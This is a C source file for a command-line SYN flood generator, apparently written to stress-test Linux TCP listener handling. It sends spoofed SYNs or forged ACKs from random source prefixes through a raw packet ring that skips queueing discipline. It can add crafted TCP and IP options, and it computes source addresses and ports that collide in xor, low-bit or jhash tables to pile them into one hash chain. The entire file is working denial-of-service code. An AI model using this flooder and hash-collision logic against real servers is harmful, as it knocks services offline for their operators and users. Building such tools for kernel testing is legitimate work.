// SPDX-License-Identifier: GPL-2.0
/*
 * A SYN flood from random sources: a packet ring written straight to the
 * device, past qdiscs and past this host's own TCP.  The same arguments give
 * the same packets.
 *
 * With -A forged final ACKs instead: sequence and acknowledgment numbers are as
 * random as ports and sources.
 *
 * -x, -I, -D and -f put into each SYN what a listener may have to treat in some
 * way of its own: TCP options, IP options, data, flags.
 *
 * -C chooses sources that a hash without a secret puts into one chain: "xor" of
 * the address' and the port's 16-bit words; "low" bits of address and port;
 * "jhash" of the whole 4-tuple with the initial value 0 (IPv6; laid out as
 * struct ho_key).
 *
 * With -q through the qdisc after all: when a device is removed under a sender
 * that goes past it, packet_pick_tx_queue() divides by its number of queues,
 * which is 0 by then (seen on 6.12.117, without halfopen in the trace).
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/tcp.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "frame.h"

enum {
	FRAME_SIZE	= 512,
	FRAMES		= 1024,
	BLOCK_SIZE	= 64 * 1024,
	BATCH_MAX	= 32,	/* frames a system call */
	LINE_NS		= 100 * 1000 * 1000,
	WAVE_S		= 2,
	DATA_OFF	= TPACKET2_HDRLEN - sizeof(struct sockaddr_ll),
	OPTS_MAX	= 40,	/* 15 words less the header, in TCP and IPv4 */
	DATA_MAX	= 128,
	TCP_NOP		= 1,
	IPV6_UNIT	= 8,	/* extension headers come in these */
};

/* In the order in which Linux writes them: MSS 1460, SACK, TS, NOP, WS 7. */
static const uint8_t linux_opts[20] = {
	2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
};

enum collide { COLLIDE_NOT, COLLIDE_XOR, COLLIDE_LOW, COLLIDE_JHASH };

struct bytes {
	uint8_t		b[OPTS_MAX];
	size_t		len;
};

struct flood {
	const char	*ifname;
	struct ether_addr mac;
	int		family;
	uint8_t		dst[16];
	uint8_t		src[16];	/* the prefix */
	unsigned int	src_len;
	uint16_t	port;
	uint64_t	count;		/* 0: no end */
	uint64_t	rate;		/* packets per second, 0: no limit */
	uint64_t	wave;		/* packets, then WAVE_S of rest */
	uint64_t	seed;
	struct bytes	opts;		/* of the SYN, a multiple of 4 */
	bool		linux_opts;	/* begin with linux_opts */
	struct bytes	ip_opts;	/* IPv4 options or an IPv6 header */
	uint8_t		ip6_next;	/* the number of that header */
	size_t		data_len;
	uint16_t	flags;		/* beside SYN or ACK, of 12 bits */
	bool		ack;		/* ACKs instead of SYNs */
	enum collide	collide;
	bool		qdisc;
	bool		verbose;	/* every 100 ms: ms, packets so far */
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* splitmix64: any seed is good, and it is the same everywhere. */
static uint64_t next_random(uint64_t *state)
{
	uint64_t z = *state += 0x9e3779b97f4a7c15;

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9;
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb;
	return z ^ (z >> 31);
}

static void random_source(const struct flood *f, uint64_t *rnd, uint8_t *addr)
{
	size_t len = f->family == AF_INET ? 4 : 16;
	uint8_t noise[16];
	uint64_t half;
	size_t i;

	half = next_random(rnd);
	memcpy(noise, &half, 8);
	half = next_random(rnd);
	memcpy(noise + 8, &half, 8);
	for (i = 0; i < len; i++) {
		int fixed = (int)f->src_len - (int)i * 8;
		uint8_t mask = fixed >= 8 ? 0xff : fixed <= 0 ? 0 :
			       0xff << (8 - fixed);

		addr[i] = (f->src[i] & mask) | (noise[i] & ~mask);
	}
}

static uint32_t rol32(uint32_t x, unsigned int shift)
{
	return x << shift | x >> (32 - shift);
}

/* What jhash's mixing of three words began with. */
static void undo_mix(uint32_t s[3])
{
	static const unsigned int shift[] = { 4, 19, 16, 8, 6, 4 };
	unsigned int i;

	/* x -= z, x ^= rol(z), z += y: backwards, for another x each time */
	for (i = 0; i < 6; i++) {
		uint32_t *x = &s[(2 + i * 2) % 3], *y = &s[(i * 2) % 3];
		uint32_t *z = &s[(1 + i * 2) % 3];

		*z -= *y;
		*x = (*x ^ rol32(*z, shift[i])) + *z;
	}
}

/* Whatever the address' last word is, the other three make up for it. */
static void collide_jhash(const struct flood *f, uint32_t n, uint8_t *addr)
{
	const uint32_t init = 0xdeadbeef + (10 << 2);
	uint32_t s[3] = { 1, 2, 3 }, dst[2];
	unsigned int i;

	memcpy(dst, f->dst, sizeof(dst));
	undo_mix(s);
	s[0] -= n;
	s[1] -= dst[0];
	s[2] -= dst[1];
	undo_mix(s);
	for (i = 0; i < 3; i++)
		s[i] -= init;
	memcpy(addr, s, sizeof(s));
	memcpy(addr + sizeof(s), &n, sizeof(n));
}

/* The n-th source of those that collide; @addr has the prefix. */
static uint16_t collide(const struct flood *f, uint64_t *n, uint8_t *addr)
{
	uint8_t *low = addr + (f->family == AF_INET ? 0 : 12);
	uint32_t word;

	switch (f->collide) {
	case COLLIDE_XOR:
		memcpy(&word, low, 4);
		word = htonl(ntohl(word) + *n);
		memcpy(low, &word, 4);
		word = ntohl(word);
		++*n;
		return (word ^ word >> 16) & 0xffff;
	case COLLIDE_LOW:
		/* high bits of the host part, then of the port */
		word = htonl(*n % 512 << 8 | 1);
		low[1] |= ((uint8_t *)&word)[1];
		low[2] = ((uint8_t *)&word)[2];
		low[3] = 1;
		return 1024 + (++*n / 512 << 4);
	default:
		/* an eighth is global unicast, 2000::/3 */
		do
			collide_jhash(f, (*n)++, addr);
		while (addr[0] >> 5 != 1);
		return 40000;
	}
}

static size_t put_ipv4(const struct flood *f, uint8_t *p, const uint8_t *src,
		       uint64_t rnd, size_t len)
{
	size_t hlen = sizeof(struct iphdr) + f->ip_opts.len;
	struct iphdr ip = {
		.version = 4, .ihl = hlen / 4, .ttl = 64,
		.protocol = IPPROTO_TCP, .id = rnd,
		.frag_off = htons(IP_DF),
		.tot_len = htons(hlen + len),
	};

	memcpy(&ip.saddr, src, 4);
	memcpy(&ip.daddr, f->dst, 4);
	memcpy(p + sizeof(ip), f->ip_opts.b, f->ip_opts.len);
	ip.check = csum_fold(csum_add(csum_add(0, &ip, sizeof(ip)),
				      f->ip_opts.b, f->ip_opts.len));
	memcpy(p, &ip, sizeof(ip));
	return hlen;
}

static size_t put_ipv6(const struct flood *f, uint8_t *p, const uint8_t *src,
		       size_t len)
{
	struct ip6_hdr ip6 = {
		.ip6_flow = htonl(6 << 28),
		.ip6_plen = htons(f->ip_opts.len + len),
		.ip6_nxt = f->ip_opts.len ? f->ip6_next : IPPROTO_TCP,
		.ip6_hlim = 64,
	};

	memcpy(&ip6.ip6_src, src, 16);
	memcpy(&ip6.ip6_dst, f->dst, 16);
	memcpy(p, &ip6, sizeof(ip6));
	memcpy(p + sizeof(ip6), f->ip_opts.b, f->ip_opts.len);
	return sizeof(ip6) + f->ip_opts.len;
}

static size_t put_ip(const struct flood *f, uint8_t *p, const uint8_t *src,
		     uint64_t rnd, size_t len, uint32_t *pseudo)
{
	size_t alen = f->family == AF_INET ? 4 : 16;

	*pseudo = csum_add(IPPROTO_TCP + len, src, alen);
	*pseudo = csum_add(*pseudo, f->dst, alen);
	return f->family == AF_INET ? put_ipv4(f, p, src, rnd, len) :
	       put_ipv6(f, p, src, len);
}

static size_t put_segment(const struct flood *f, uint64_t *rnd, uint64_t *nth,
			  uint8_t *frame)
{
	uint8_t buf[sizeof(struct tcphdr) + OPTS_MAX + DATA_MAX] = {};
	size_t opt_len = f->ack ? 0 : f->opts.len;
	size_t hlen = sizeof(struct tcphdr) + opt_len;
	size_t len = hlen + f->data_len;
	struct ethhdr eth = {};
	struct tcphdr tcp = {};
	uint8_t src[16], *p = frame;
	uint32_t sum, tsval;
	uint16_t check, sport;
	uint64_t r;

	memcpy(eth.h_dest, &f->mac, 6);
	memcpy(eth.h_source, "\x02\x00\x00\x00\x00\xfe", 6);
	eth.h_proto = htons(f->family == AF_INET ? ETH_P_IP : ETH_P_IPV6);
	memcpy(p, &eth, sizeof(eth));
	p += sizeof(eth);

	random_source(f, rnd, src);
	r = next_random(rnd);
	sport = 1024 + (r >> 16) % (65536 - 1024);
	if (f->collide) {
		memcpy(src, f->src, sizeof(src));
		sport = collide(f, nth, src);
	}
	p += put_ip(f, p, src, r, len, &sum);

	tcp.source = htons(sport);
	tcp.dest = htons(f->port);
	tcp.seq = htonl(r >> 32);
	tcp.doff = hlen / 4;
	tcp.syn = !f->ack;
	tcp.ack = f->ack;
	if (f->ack)
		tcp.ack_seq = next_random(rnd);
	tcp.window = htons(64240);
	memcpy(buf, &tcp, sizeof(tcp));
	buf[12] |= f->flags >> 8;
	buf[13] |= f->flags;
	memcpy(buf + sizeof(tcp), f->opts.b, opt_len);
	if (opt_len && f->linux_opts) {
		tsval = next_random(rnd);
		memcpy(buf + sizeof(tcp) + 8, &tsval, 4);
	}
	check = csum_fold(csum_add(sum, buf, len));
	memcpy(buf + offsetof(struct tcphdr, check), &check, 2);
	memcpy(p, buf, len);
	return p + len - frame;
}

static uint8_t *open_ring(const struct flood *f, int *fd)
{
	struct tpacket_req req = {
		.tp_block_size = BLOCK_SIZE,
		.tp_block_nr = FRAMES * FRAME_SIZE / BLOCK_SIZE,
		.tp_frame_size = FRAME_SIZE,
		.tp_frame_nr = FRAMES,
	};
	struct sockaddr_ll ll = { .sll_family = AF_PACKET };
	int v2 = TPACKET_V2, one = 1, bypass = !f->qdisc;
	void *ring;

	/* Protocol 0: nothing is received. */
	*fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (*fd < 0)
		err(1, "packet socket");
	if (setsockopt(*fd, SOL_PACKET, PACKET_VERSION, &v2, sizeof(v2)) ||
	    setsockopt(*fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass,
		       sizeof(bypass)) ||
	    setsockopt(*fd, SOL_PACKET, PACKET_LOSS, &one, sizeof(one)) ||
	    setsockopt(*fd, SOL_PACKET, PACKET_TX_RING, &req, sizeof(req)))
		err(1, "packet ring");
	ll.sll_ifindex = if_nametoindex(f->ifname);
	if (!ll.sll_ifindex || bind(*fd, (void *)&ll, sizeof(ll)))
		err(1, "%s", f->ifname);
	ring = mmap(NULL, FRAMES * FRAME_SIZE, PROT_READ | PROT_WRITE,
		    MAP_SHARED, *fd, 0);
	if (ring == MAP_FAILED)
		err(1, "mmap");
	return ring;
}

static void flush_ring(int fd)
{
	while (send(fd, NULL, 0, 0) < 0)
		if (errno != EINTR && errno != ENOBUFS && errno != EAGAIN)
			err(1, "send");
}

static void wait_frame(int fd, struct tpacket2_hdr *hdr)
{
	struct pollfd pfd = { .fd = fd, .events = POLLOUT };

	while (__atomic_load_n(&hdr->tp_status, __ATOMIC_ACQUIRE) !=
	       TP_STATUS_AVAILABLE && !stop) {
		flush_ring(fd);
		poll(&pfd, 1, 10);
	}
}

static void sleep_until(uint64_t ns)
{
	struct timespec ts = {
		.tv_sec = ns / 1000000000, .tv_nsec = ns % 1000000000,
	};

	clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
}

/*
 * What is due in a millisecond: larger batches would make others wait for them
 * on an emulated CPU, and that is what is measured.
 */
static unsigned int batch_of(uint64_t rate)
{
	if (!rate || rate / 1000 > BATCH_MAX)
		return BATCH_MAX;
	return rate < 1000 ? 1 : rate / 1000;
}

static void run(const struct flood *f)
{
	uint64_t rnd = f->seed, start, sent = 0, now, due, next_line = LINE_NS;
	uint64_t nth = 0;
	unsigned int batch = batch_of(f->rate);
	uint8_t *ring;
	int fd;

	ring = open_ring(f, &fd);
	start = now_ns();
	while (!stop && (!f->count || sent < f->count)) {
		struct tpacket2_hdr *hdr = (void *)(ring + sent % FRAMES *
						    FRAME_SIZE);

		wait_frame(fd, hdr);
		hdr->tp_len = put_segment(f, &rnd, &nth,
					  (uint8_t *)hdr + DATA_OFF);
		__atomic_store_n(&hdr->tp_status, TP_STATUS_SEND_REQUEST,
				 __ATOMIC_RELEASE);
		sent++;
		if (f->wave && !(sent % f->wave)) {
			flush_ring(fd);
			sleep_until(now_ns() + WAVE_S * 1000000000ull);
		}
		if (sent % batch)
			continue;
		flush_ring(fd);
		now = now_ns();
		due = f->rate ? start + sent * 1000000000ull / f->rate : now;
		if (due > now)
			sleep_until(due);
		if (f->verbose && now - start >= next_line) {
			next_line = now - start + LINE_NS;
			printf("%llu %llu\n",
			       (unsigned long long)(now - start) / 1000000,
			       (unsigned long long)sent);
			fflush(stdout);
		}
	}
	flush_ring(fd);
	now = now_ns() - start;
	printf("sent %llu in %.9f s, %.0f per second\n",
	       (unsigned long long)sent, now / 1e9, sent / (now / 1e9));
}

static void parse_prefix(struct flood *f, char *arg)
{
	char *slash = strchr(arg, '/');

	if (slash)
		*slash = 0;
	f->family = strchr(arg, ':') ? AF_INET6 : AF_INET;
	f->src_len = slash ? strtoul(slash + 1, NULL, 0) :
		     f->family == AF_INET ? 32 : 128;
	if (inet_pton(f->family, arg, f->src) != 1)
		errx(1, "bad source prefix %s", arg);
}

static uint8_t parse_byte(const char *hex)
{
	char text[3] = { hex[0], hex[1] };
	char *end;
	uint8_t byte = strtoul(text, &end, 16);

	if (end != text + 2)
		errx(1, "bad hexadecimal byte %s", text);
	return byte;
}

/* In units of so many bytes, filled up with that byte. */
static void add_bytes(struct bytes *bytes, const char *hex, size_t unit,
		      uint8_t filler)
{
	for (; *hex; hex += 2) {
		if (bytes->len == sizeof(bytes->b))
			errx(1, "options are too long");
		bytes->b[bytes->len++] = parse_byte(hex);
	}
	while (bytes->len % unit)
		bytes->b[bytes->len++] = filler;
}

/* IPv4 options, or the number of an IPv6 header and the options in it. */
static void parse_ip_options(struct flood *f, const char *hex)
{
	if (f->family == AF_INET) {
		add_bytes(&f->ip_opts, hex, 4, IPOPT_EOL);
		return;
	}
	f->ip6_next = parse_byte(hex);
	f->ip_opts.b[f->ip_opts.len++] = IPPROTO_TCP;
	f->ip_opts.len++;
	add_bytes(&f->ip_opts, hex + 2, IPV6_UNIT, IP6OPT_PAD1);
	f->ip_opts.b[1] = f->ip_opts.len / IPV6_UNIT - 1;
}

static enum collide parse_collide(const char *name)
{
	if (!strcmp(name, "xor"))
		return COLLIDE_XOR;
	if (!strcmp(name, "low"))
		return COLLIDE_LOW;
	if (!strcmp(name, "jhash"))
		return COLLIDE_JHASH;
	errx(1, "no collisions of %s", name);
}

static void parse_options(struct flood *f, const char *tcp, const char *ip)
{
	if (f->linux_opts) {
		memcpy(f->opts.b, linux_opts, sizeof(linux_opts));
		f->opts.len = sizeof(linux_opts);
	}
	add_bytes(&f->opts, tcp, 4, TCP_NOP);
	if (*ip)
		parse_ip_options(f, ip);
}

static const char usage[] =
"synflood -i IF -m DST_MAC -S SRC_PREFIX -d DST -p PORT\n"
"         [-n COUNT] [-r PPS] [-w WAVE] [-s SEED] [-o none|linux]\n"
"         [-A] [-q] [-v] [-C HASH] [-x HEX] [-I HEX] [-D BYTES] [-f HEX]\n"
"  -C xor|low|jhash  sources that collide under such a hash\n"
"  -w N    in waves of N packets, two seconds between them\n"
"  -x HEX  further TCP options   -f HEX  TCP flags beside SYN\n"
"  -I HEX  IPv4 options, or the number of an IPv6 extension header\n"
"          and the options in it\n"
"  -D N    N bytes of data";

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	struct flood f = { .seed = 1, .count = 1000, .linux_opts = true };
	const char *dst = NULL, *opts = "", *ip_opts = "";
	int c;

	while ((c = getopt(argc, argv,
			   "i:m:d:p:n:r:w:s:S:o:x:I:D:f:C:Aqv")) != -1) {
		switch (c) {
		case 'i':
			f.ifname = optarg;
			break;
		case 'm':
			if (!ether_aton_r(optarg, &f.mac))
				errx(1, "bad address %s", optarg);
			break;
		case 'd':
			dst = optarg;
			break;
		case 'p':
			f.port = strtoul(optarg, NULL, 0);
			break;
		case 'n':
			f.count = strtoull(optarg, NULL, 0);
			break;
		case 'r':
			f.rate = strtoull(optarg, NULL, 0);
			break;
		case 'w':
			f.wave = strtoull(optarg, NULL, 0);
			break;
		case 's':
			f.seed = strtoull(optarg, NULL, 0);
			break;
		case 'S':
			parse_prefix(&f, optarg);
			break;
		case 'o':
			f.linux_opts = strcmp(optarg, "none");
			break;
		case 'x':
			opts = optarg;
			break;
		case 'I':
			ip_opts = optarg;
			break;
		case 'D':
			f.data_len = strtoul(optarg, NULL, 0);
			if (f.data_len > DATA_MAX)
				errx(1, "at most %d bytes of data", DATA_MAX);
			break;
		case 'f':
			f.flags = strtoul(optarg, NULL, 16);
			break;
		case 'C':
			f.collide = parse_collide(optarg);
			break;
		case 'A':
			f.ack = true;
			break;
		case 'q':
			f.qdisc = true;
			break;
		case 'v':
			f.verbose = true;
			break;
		default:
			errx(1, "%s", usage);
		}
	}
	if (!f.ifname || !dst || !f.family || !f.port)
		errx(1, "needs at least -i -m -S -d -p");
	if (inet_pton(f.family, dst, f.dst) != 1)
		errx(1, "bad destination %s", dst);
	parse_options(&f, opts, ip_opts);
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	run(&f);
	return 0;
}
